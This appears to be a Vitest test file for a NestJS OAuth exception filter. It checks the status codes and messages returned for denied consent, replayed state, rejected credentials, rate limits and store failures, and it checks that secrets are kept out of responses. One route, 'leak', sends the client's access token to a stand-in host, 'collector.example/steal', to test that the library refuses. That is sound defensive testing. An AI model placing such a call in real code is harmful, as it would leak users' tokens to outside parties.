import { mkdtemp, rm, writeFile } from "node:fs/promises"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { Controller, Get, Module, NotFoundException, Param, Query } from "@nestjs/common"
import { APP_FILTER } from "@nestjs/core"
import { Providers, type OAuthClient } from "@grantflow/core"
import { startSandbox, type Sandbox } from "@grantflow/sandbox"
import request from "supertest"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import {
  GrantflowClients,
  GrantflowModule,
  InjectOAuthClient,
  OAuthExceptionFilter,
  isOAuthError,
} from "../src/index.js"
import { fileTokenStore } from "./file-token-store.js"
import {
  FUSE,
  HOPPER,
  closedPort,
  consentRedirect,
  createApp,
  fuseProvider,
  hopperProvider,
  type RecordingLogger,
} from "./support.js"

const WRONG_SECRET = "not-the-secret-at-all"
const SECRETS = [HOPPER.clientSecret, FUSE.clientSecret, WRONG_SECRET, encodeURIComponent(FUSE.clientSecret)]

@Controller()
class OAuthController {
  constructor(
    @InjectOAuthClient("cryptohopper") private readonly hopper: OAuthClient,
    @InjectOAuthClient("cryptofuse") private readonly fuse: OAuthClient,
    private readonly clients: GrantflowClients,
  ) {}

  @Get("connect")
  async connect() {
    return { url: (await this.hopper.authorizationUrl({ scopes: ["read"] })).url }
  }

  @Get("callback")
  async callback(@Query() query: Record<string, string>) {
    return { scopes: (await this.hopper.handleCallback(new URLSearchParams(query))).scopes }
  }

  @Get("refresh/:client")
  async refresh(@Param("client") name: string) {
    await this.clients.get(name).refresh("a-refresh-token-the-server-never-issued")
  }

  @Get("session")
  async session() {
    await this.hopper.getAccessToken({ session: "never-signed-in" })
  }

  @Get("token/:client")
  async token(@Param("client") name: string, @Query("scope") scope?: string) {
    const tokens = await this.clients.get(name).clientCredentials(scope ? { scopes: [scope] } : undefined)
    return { scopes: tokens.scopes }
  }

  @Get("cached/:client")
  async cached(@Param("client") name: string) {
    await this.clients.get(name).getAccessToken()
    return { ok: true }
  }

  @Get("leak")
  async leak() {
    await this.fuse.fetch("https://collector.example/steal")
  }

  @Get("missing")
  missing() {
    throw new NotFoundException("No such page")
  }

  @Get("bug")
  bug() {
    throw new Error("a bug with a detail nobody outside should see")
  }
}

let sb: Sandbox
let storeRoot: string
let http: Parameters<typeof request>[0]
let logger: RecordingLogger
let close: () => Promise<void>

beforeAll(async () => {
  sb = await startSandbox({ consent: "approve" })
  storeRoot = await mkdtemp(join(tmpdir(), "grantflow-nest-"))
  const notADirectory = join(storeRoot, "plain-file")
  await writeFile(notADirectory, "")
  const port = await closedPort()

  @Module({
    imports: [
      GrantflowModule.forRoot({
        clients: {
          cryptohopper: hopperProvider(sb),
          cryptofuse: fuseProvider(sb),
          "hopper-wrong-secret": hopperProvider(sb, { clientSecret: WRONG_SECRET }),
          "fuse-wrong-secret": fuseProvider(sb, { clientSecret: WRONG_SECRET }),
          "fuse-unreachable": Providers.cryptofuse({
            ...FUSE,
            baseUrl: `http://127.0.0.1:${port}/cryptofuse`,
          }),
          "fuse-store-down": {
            provider: fuseProvider(sb),
            options: { tokenStore: fileTokenStore(join(notADirectory, "tokens")) },
          },
        },
        // One attempt per request keeps each fault to one answer.
        clientOptions: { retries: 0, timeoutMs: 5_000 },
      }),
    ],
    controllers: [OAuthController],
  })
  class AppModule {}
  const created = await createApp(AppModule, (app) => app.useGlobalFilters(new OAuthExceptionFilter()))
  http = created.app.getHttpServer()
  logger = created.logger
  close = () => created.app.close()
})

afterAll(async () => {
  await close?.()
  await sb?.stop()
  if (storeRoot) await rm(storeRoot, { recursive: true, force: true })
})

const get = async (path: string) => {
  const res = await request(http).get(path)
  for (const secret of SECRETS) expect(res.text).not.toContain(secret)
  return res
}

const signIn = async (): Promise<string> => {
  const connect = await get("/connect")
  expect(connect.status).toBe(200)
  return consentRedirect(connect.body.url)
}

describe("OAuthExceptionFilter", () => {
  it("answers a denied consent with 401 and the provider's message", async () => {
    sb.setConsent("deny")
    try {
      const query = await signIn()
      const res = await get(`/callback${query}`)
      expect(res.status).toBe(401)
      expect(res.headers["content-type"]).toMatch(/^application\/json/)
      expect(res.body).toEqual({
        statusCode: 401,
        error: "AuthorizationError",
        message: expect.stringContaining("User did not give permission to the app."),
      })
    } finally {
      sb.setConsent("approve")
    }
  })

  it("answers a callback whose state was already used with 400 StateMismatch", async () => {
    const query = await signIn()
    expect((await get(`/callback${query}`)).status).toBe(200)
    const replay = await get(`/callback${query}`)
    expect(replay.status).toBe(400)
    expect(replay.body.error).toBe("StateMismatch")
    expect(replay.body.statusCode).toBe(400)
  })

  it("answers a callback without state with 400 StateMismatch", async () => {
    const res = await get("/callback?code=abc")
    expect(res.status).toBe(400)
    expect(res.body.error).toBe("StateMismatch")
  })

  it("answers rejected client credentials with 502 and says the provider rejected this application", async () => {
    for (const name of ["fuse-wrong-secret", "hopper-wrong-secret"]) {
      const res = await get(name.startsWith("fuse") ? `/token/${name}` : `/refresh/${name}`)
      expect(res.status).toBe(502)
      expect(res.body.error).toBe("OAuthServerError")
      expect(res.body.message).toContain("rejected this application's credentials (invalid_client)")
    }
    expect(logger.text()).toContain("invalid_client")
  })

  it("answers unauthorized_client (a grant this client may not use) with 502 and the same reason", async () => {
    const res = await get("/refresh/cryptofuse")
    expect(res.status).toBe(502)
    expect(res.body.message).toContain("rejected this application's credentials (unauthorized_client)")
  })

  it("answers invalid_grant with 401 asking the user to sign in again", async () => {
    const res = await get("/refresh/cryptohopper")
    expect(res.status).toBe(401)
    expect(res.body).toEqual({
      statusCode: 401,
      error: "OAuthServerError",
      message: "Session expired, sign in again",
    })
  })

  it("answers a session that has no tokens with 401 LoginRequired", async () => {
    const res = await get("/session")
    expect(res.status).toBe(401)
    expect(res.body.error).toBe("LoginRequired")
  })

  it("answers any other provider error with 502 and its OAuth error code", async () => {
    const res = await get("/token/cryptofuse?scope=bogus")
    expect(res.status).toBe(502)
    expect(res.body.error).toBe("OAuthServerError")
    expect(res.body.message).toContain("invalid_scope")
  })

  it("answers a provider that rate limits with a text page with 503 and forwards its Retry-After", async () => {
    sb.faults.next("cryptofuse.token", {
      kind: "rate-limit",
      retryAfterSeconds: 42,
      body: "Too Many Requests",
    })
    const res = await get("/token/cryptofuse")
    expect(res.status).toBe(503)
    expect(res.headers["retry-after"]).toBe("42")
    expect(res.body).toMatchObject({
      error: "OAuthServerError",
      message: "The provider is busy, try again in 42 s",
    })
  })

  it("answers a provider that rate limits with its own JSON with 503 and forwards its Retry-After", async () => {
    sb.faults.next("cryptofuse.token", { kind: "rate-limit", retryAfterSeconds: 9 })
    const res = await get("/token/cryptofuse")
    expect(res.status).toBe(503)
    expect(res.headers["retry-after"]).toBe("9")
  })

  it("answers an HTML page from the token endpoint with 502 InvalidResponse", async () => {
    sb.faults.next("cryptofuse.token", { kind: "html" })
    const res = await get("/token/cryptofuse")
    expect(res.status).toBe(502)
    expect(res.body.error).toBe("InvalidResponse")
    expect(res.body.message).toContain("text/html")
  })

  it("answers an unreachable provider with 504 without naming its address", async () => {
    const res = await get("/token/fuse-unreachable")
    expect(res.status).toBe(504)
    expect(res.body.error).toBe("TransportError")
    expect(res.text).not.toContain("127.0.0.1")
    expect(logger.text()).toMatch(
      /Transport error \(network\) on POST http:\/\/127\.0\.0\.1:\d+\/cryptofuse\/o\/token\//,
    )
  })

  it("answers a configuration error with a generic 500 and logs the details", async () => {
    const res = await get("/leak")
    expect(res.status).toBe(500)
    expect(res.body).toEqual({
      statusCode: 500,
      error: "ConfigError",
      message: "The OAuth client is misconfigured",
    })
    expect(logger.text()).toContain("refusing to send cryptofuse's access token to https://collector.example")
  })

  it("answers a failing token store with 503 and logs the details", async () => {
    const res = await get("/cached/fuse-store-down")
    expect(res.status).toBe(503)
    expect(res.body.error).toBe("StoreError")
    expect(res.text).not.toContain("ENOTDIR")
    expect(logger.text()).toContain("ENOTDIR")
  })

  it("leaves other exceptions to Nest", async () => {
    const missing = await get("/missing")
    expect(missing.status).toBe(404)
    expect(missing.body.message).toBe("No such page")
    const bug = await get("/bug")
    expect(bug.status).toBe(500)
    expect(bug.body).toEqual({ statusCode: 500, message: "Internal server error" })
  })
})

describe("OAuthExceptionFilter as APP_FILTER", () => {
  it("is injected with the HTTP adapter and answers through it", async () => {
    @Controller()
    class FuseController {
      constructor(@InjectOAuthClient("cryptofuse") private readonly fuse: OAuthClient) {}
      @Get("token")
      async token() {
        return (await this.fuse.clientCredentials()).scopes
      }
    }
    @Module({
      imports: [
        GrantflowModule.forRoot({
          clients: { cryptofuse: fuseProvider(sb, { clientSecret: WRONG_SECRET }) },
        }),
      ],
      controllers: [FuseController],
      providers: [{ provide: APP_FILTER, useClass: OAuthExceptionFilter }],
    })
    class AppModule {}
    const { app } = await createApp(AppModule)
    try {
      const res = await request(app.getHttpServer()).get("/token")
      expect(res.status).toBe(502)
      expect(res.headers["content-type"]).toMatch(/^application\/json/)
      expect(res.body.error).toBe("OAuthServerError")
      expect(res.text).not.toContain(WRONG_SECRET)
      // Longer than the transport's own wait limit, so it is handed to the caller, not waited out.
      sb.faults.next("cryptofuse.token", {
        kind: "rate-limit",
        retryAfterSeconds: 120,
        body: "<html>busy</html>",
      })
      const busy = await request(app.getHttpServer()).get("/token")
      expect(busy.status).toBe(503)
      expect(busy.headers["retry-after"]).toBe("120")
    } finally {
      await app.close()
    }
  })
})

describe("isOAuthError", () => {
  it("recognises the errors a client rejects with, and nothing else", async () => {
    const { app } = await createApp(
      (() => {
        @Module({ imports: [GrantflowModule.forRoot({ clients: { cryptofuse: fuseProvider(sb) } })] })
        class AppModule {}
        return AppModule
      })(),
    )
    try {
      const rejection = await app
        .get(GrantflowClients)
        .get("cryptofuse")
        .clientCredentials({ scopes: ["no-such-scope"] })
        .catch((e: unknown) => e)
      expect(isOAuthError(rejection)).toBe(true)
      expect(isOAuthError(new Error("plain"))).toBe(false)
      expect(isOAuthError({ _tag: "SomethingElse" })).toBe(false)
      expect(isOAuthError(undefined)).toBe(false)
    } finally {
      await app.close()
    }
  })
})
